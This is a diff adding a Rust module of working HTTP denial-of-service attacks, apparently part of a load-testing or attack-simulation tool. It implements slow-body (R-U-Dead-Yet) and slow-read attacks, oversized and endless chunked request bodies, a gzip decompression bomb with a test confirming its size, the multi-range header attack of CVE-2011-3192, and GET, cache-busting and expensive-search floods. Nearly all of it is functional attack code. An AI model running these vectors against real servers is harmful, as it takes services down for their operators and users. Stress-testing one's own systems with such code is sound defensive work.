@@ -1,0 +1,187 @@
+//! Vectors in the body of a request or of its answer, and in what it may cost to make one.
+
+use std::io::Write;
+use std::time::Duration;
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use tokio::io::AsyncReadExt;
+use tokio::time::timeout_at;
+
+use super::connections::{ask, get};
+use super::ground::{Attacker, End, rest};
+use super::heads::open;
+use super::http_1::{drip, hold, note, write};
+
+/// A body of a megabyte is announced and comes a byte a second (R-U-Dead-Yet).
+pub(super) async fn slow_body(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let head = format!(
+        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+         Content-Length: 1000000\r\n\r\n",
+        attacker.path(),
+        attacker.host()
+    );
+    attacker.requested(1);
+    let bytes = std::iter::repeat_n(b"a".to_vec(), 1_000_000);
+    let pieces = std::iter::once(head.into_bytes()).chain(bytes);
+    drip(&attacker, &mut stream, pieces, Duration::from_secs(1)).await
+}
+
+/// Asks for pages and takes a byte of them each second, out of a receive buffer of 2 kB.
+pub(super) async fn slow_read(attacker: Attacker) -> End {
+    // The kernel doubles what is asked for, and this is the least that it grants.
+    let Some(mut stream) = attacker.open_with(Some(1_152)).await else {
+        return End::NotOpened;
+    };
+    let head = get(&attacker, attacker.path());
+    let heads = head.repeat(8);
+    attacker.requested(8);
+    if let Err(end) = write(&attacker, &mut stream, heads.as_bytes()).await {
+        return end;
+    }
+    // Nothing at all at first: what is in the buffers on the way is no progress of ours.
+    let mut first = Vec::new();
+    while attacker.may_go_on() {
+        rest(&attacker, Duration::from_secs(1)).await;
+        let mut byte = [0];
+        match timeout_at(attacker.end(), stream.read(&mut byte)).await {
+            Ok(Ok(1)) if first.len() < 12 => {
+                first.push(byte[0]);
+                if first.len() == 12 {
+                    note(&attacker, &first);
+                }
+            }
+            Ok(Ok(1)) => {}
+            Ok(Ok(_) | Err(_)) => return End::Closed,
+            Err(_) => return End::Held,
+        }
+        // A connection that was cut says so in an error, but only behind what had arrived.
+        if is_reset(&stream) {
+            return End::Closed;
+        }
+    }
+    End::Held
+}
+
+/// Whether the other end has given the connection up, as the kernel knows it.
+fn is_reset(stream: &super::dial::Stream) -> bool {
+    let tcp = match stream {
+        super::dial::Stream::Plain(tcp) => tcp,
+        super::dial::Stream::Tls(tls) => tls.get_ref().0,
+    };
+    matches!(tcp.take_error(), Ok(Some(_)) | Err(_))
+}
+
+/// Bodies beyond any limit, in two forms by place: announced as a terabyte, or in chunks, four
+/// megabytes a turn.
+pub(super) async fn large_body(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let (path, host) = (attacker.path(), attacker.host());
+    attacker.requested(1);
+    if attacker.place.is_multiple_of(2) {
+        let head = format!(
+            "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1099511627776\r\n\r\n"
+        );
+        if let Err(end) = write(&attacker, &mut stream, head.as_bytes()).await {
+            return end;
+        }
+        return hold(&attacker, &mut stream).await;
+    }
+    let head =
+        format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n");
+    let mut chunk = b"10000\r\n".to_vec();
+    chunk.extend(std::iter::repeat_n(b'a', 0x10000));
+    chunk.extend(b"\r\n");
+    let chunks = std::iter::repeat_n(chunk, 64);
+    let pieces = std::iter::once(head.into_bytes()).chain(chunks);
+    drip(&attacker, &mut stream, pieces, Duration::ZERO).await
+}
+
+/// Ten megabytes of zeros in ten kilobytes. Whoever unpacks what visitors send pays for it.
+pub(super) async fn gzip_bomb(attacker: Attacker) -> End {
+    let mut stream = open!(attacker);
+    let body = bomb();
+    let head = format!(
+        "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
+        attacker.path(),
+        attacker.host(),
+        body.len()
+    );
+    let mut request = head.into_bytes();
+    request.extend(body);
+    for _ in 0..20 {
+        attacker.requested(1);
+        if let Err(end) = write(&attacker, &mut stream, &request).await {
+            return end;
+        }
+        match super::http_1::read(&attacker, &mut stream, attacker.end(), true).await {
+            Ok(0) => return End::Held,
+            Ok(_) => {}
+            Err(end) => return end,
+        }
+    }
+    End::Done
+}
+
+fn bomb() -> Vec<u8> {
+    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
+    let zeros = [0; 16 * 1024];
+    for _ in 0..640 {
+        // Writing to memory does not fail.
+        let _ = packed.write_all(&zeros);
+    }
+    packed.finish().unwrap_or_default()
+}
+
+/// Thirteen hundred ranges of one page, each over all of it but a byte (CVE-2011-3192).
+pub(super) async fn many_ranges(attacker: Attacker) -> End {
+    let ranges: Vec<String> = (0..1_300).map(|n| format!("{n}-")).collect();
+    let ranges = ranges.join(",");
+    ask(&attacker, Duration::from_millis(100), 50, |_| {
+        format!(
+            "GET {} HTTP/1.1\r\nHost: {}\r\nRange: bytes={ranges}\r\n\r\n",
+            attacker.path(),
+            attacker.host()
+        )
+    })
+    .await
+}
+
+/// The same page again and again, as fast as it comes, fifty times a second and connection.
+pub(super) async fn get_flood(attacker: Attacker) -> End {
+    ask(&attacker, FLOOD, u32::MAX, |_| get(&attacker, attacker.path())).await
+}
+
+/// The same page under an address that no cache has ever seen.
+pub(super) async fn cache_busting(attacker: Attacker) -> End {
+    ask(&attacker, FLOOD, u32::MAX, |round| {
+        let number = attacker.number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
+        get(&attacker, &format!("{}?x={number:x}", attacker.path()))
+    })
+    .await
+}
+
+/// What costs the origin most: searches, each for something else.
+pub(super) async fn expensive_pages(attacker: Attacker) -> End {
+    ask(&attacker, FLOOD, u32::MAX, |round| {
+        let number = attacker.number(round).wrapping_mul(0x9e37_79b9_7f4a_7c15);
+        get(&attacker, &format!("/search?q={number:x}"))
+    })
+    .await
+}
+
+const FLOOD: Duration = Duration::from_millis(20);
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn the_bomb_is_small_and_bursts_to_ten_megabytes() {
+        let bomb = super::bomb();
+        assert!(bomb.len() < 16 * 1024, "{}", bomb.len());
+        let mut unpacked = Vec::new();
+        let mut reader = flate2::read::GzDecoder::new(&bomb[..]);
+        std::io::Read::read_to_end(&mut reader, &mut unpacked).unwrap();
+        assert_eq!(unpacked.len(), 10 * 1024 * 1024);
+    }
+}
